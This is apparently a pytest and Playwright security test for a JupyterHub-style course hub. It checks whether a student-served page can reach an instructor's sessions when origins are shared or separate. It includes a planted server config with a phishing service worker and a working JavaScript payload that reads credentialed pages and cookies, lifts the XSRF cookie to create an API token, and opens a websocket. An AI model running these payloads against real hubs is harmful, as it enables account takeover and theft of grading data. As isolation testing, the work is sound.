"""A student's server serves a page that asks for no log-in, and an instructor opens it: what its script reaches.

The same script is run on a hub with one origin for all, where it takes over hub and formgrader: so it can.
"""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass
from typing import Any

import pytest
from at_work import Formgrader, Shots, log_in
from course_hub import INSTRUCTOR, WRONG, CourseHub, course_hub
from hostile_course import ASSIGNMENT, graded_course
from playwright.sync_api import Browser, Page, expect
from school import new_page

# What a student writes into their own home folder: their server serves a page, and a worker for all of its origin.
SERVES_A_PAGE = """\
from jupyter_server import serverapp
from tornado import web

class Page(web.RequestHandler):
    def get(self):
        self.set_header("Content-Type", "text/html")
        self.write("<title>Look at my plot</title><h1>My plot</h1>")

class Worker(web.RequestHandler):
    def get(self):
        self.set_header("Content-Type", "text/javascript")
        self.set_header("Service-Worker-Allowed", "/")
        self.write("self.onfetch = event => event.respondWith(new Response('<h1>Log in again</h1>'))")

usual = serverapp.ServerWebApplication.init_handlers

def with_ours(self, *args, **settings):
    base = settings.get("base_url") or args[-1]["base_url"]
    return [(base + "plot", Page), (base + "worker.js", Worker), *usual(self, *args, **settings)]

serverapp.ServerWebApplication.init_handlers = with_ours
"""
# Everything that the page tries; each is what it got, or nothing.
ATTACK = """async ({pages, token, worker, socket, domain}) => {
    const read = (url, how) => fetch(url, {credentials: "include", ...how}).then(
        async answer => answer.ok ? (await answer.text()).slice(0, 200000) : "", () => "");
    const reached = {};
    for (const [name, url] of Object.entries(pages)) { reached[`read ${name}`] = await read(url); }
    for (const [name, url] of Object.entries(pages)) {
        const opened = window.open(url, name, "popup");
        await new Promise(done => setTimeout(done, 1500));
        try {
            reached[`window of ${name}`] = opened.document.body.innerText;
            reached[`cookies of ${name}`] = opened.document.cookie;
        } catch (error) { reached[`window of ${name}`] = reached[`cookies of ${name}`] = ""; }
        opened.close();
    }
    const xsrf = (reached["cookies of hub"].match(/_xsrf=([^;]+)/) || [])[1] || "";
    reached["a token"] = await read(token, {method: "POST", body: "{}",
        headers: xsrf ? {"X-XSRFToken": xsrf, "Content-Type": "application/json"} : {}});
    reached["a worker for all"] = await navigator.serviceWorker.register(worker, {scope: "/"}).then(
        () => "it is registered", () => "");
    reached["a socket"] = await new Promise(done => {
        const opened = new WebSocket(socket);
        opened.onopen = () => done("it is open");
        opened.onerror = () => done("");
    });
    document.cookie = `tossed=1; path=/; domain=${domain}`;
    reached["its cookies"] = document.cookie;
    return reached;
}"""


@dataclass(frozen=True)
class Attacked:
    """A hub, the browser of an instructor who is logged in everywhere, and what a student's page there reached."""

    hub: CourseHub
    page: Page
    reached: dict[str, Any]
    statuses: list[tuple[str, str, int]]  # method, address, answer: of whatever was asked meanwhile


def attacked(hub: CourseHub, browser: Browser, shots: Shots) -> Attacked:
    folder = hub.home(WRONG) / ".jupyter"
    folder.mkdir(parents=True)
    (folder / "jupyter_server_config.py").write_text(SERVES_A_PAGE, encoding="utf-8")
    student = new_page(browser)
    log_in(student, hub, WRONG, f"/hub/spawn?next=/user/{WRONG}/plot")
    expect(student.get_by_text("My plot")).to_be_visible(timeout=120_000)
    student.context.close()

    instructor = Formgrader(new_page(browser), hub, INSTRUCTOR, shots)
    page = instructor.page
    instructor.log_in_to(ASSIGNMENT)
    page.goto(hub.address("/services/exchange/"))
    expect(page.get_by_text(f"What you handed in, {INSTRUCTOR}")).to_be_visible()
    page.goto(f"{hub.url}/hub/spawn")
    expect(page.locator(".jp-Launcher")).to_be_visible(timeout=120_000)

    page.goto(hub.address(f"/user/{WRONG}/plot"))
    expect(page.get_by_text("My plot")).to_be_visible()
    asked: list[tuple[str, str, int]] = []
    page.context.on("response", lambda answer: asked.append((answer.request.method, answer.url, answer.status)))
    pages = {
        "hub": f"{hub.url}/hub/token",
        "the hub's API": f"{hub.url}/hub/api/users/{INSTRUCTOR}",
        "formgrader": f"{hub.formgrader}/manage_submissions/{ASSIGNMENT}",
        "submissions": f"{hub.formgrader}/api/submissions/{ASSIGNMENT}",
        "exchange": hub.address("/services/exchange/"),
        "server": hub.address(f"/user/{INSTRUCTOR}/api/contents"),
    }
    socket = hub.address(f"/user/{INSTRUCTOR}/api/events/subscribe").replace("http", "ws", 1)
    targets = {
        "pages": pages,
        "token": f"{hub.url}/hub/api/users/{INSTRUCTOR}/tokens",
        "worker": hub.address(f"/user/{WRONG}/worker.js"),
        "socket": socket,
        "domain": "localhost",
    }
    reached = page.evaluate(ATTACK, targets)
    instructor.shot("a-students-page")
    return Attacked(hub, page, reached, asked)


@pytest.fixture(scope="module", params=[False, True], ids=["own origins", "one origin"])
def result(
    request: pytest.FixtureRequest, proxy: str, browser: Browser, shots: Shots, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[Attacked]:
    folder = tmp_path_factory.mktemp("origins")
    with course_hub(folder, proxy, graded_course, precheck=False, one_origin=request.param) as running:
        yield attacked(running, browser, shots)


def test_what_a_students_page_reaches(result: Attacked) -> None:
    reached = {name for name, text in result.reached.items() if text}
    if result.hub.one_origin:
        assert reached >= {"read hub", "window of hub", "window of formgrader", "a token", "a socket"}
    else:
        assert reached == set()
    assert "a worker for all" not in reached  # the proxy takes back that it answers for more than its own folder


def test_it_sets_no_cookie_for_others_and_sends_nothing_that_is_taken(result: Attacked) -> None:
    assert "tossed" not in {cookie["name"] for cookie in result.page.context.cookies()}
    sent = [(url, status) for method, url, status in result.statuses if method == "POST" and status < 400]
    assert bool(sent) == result.hub.one_origin, sent
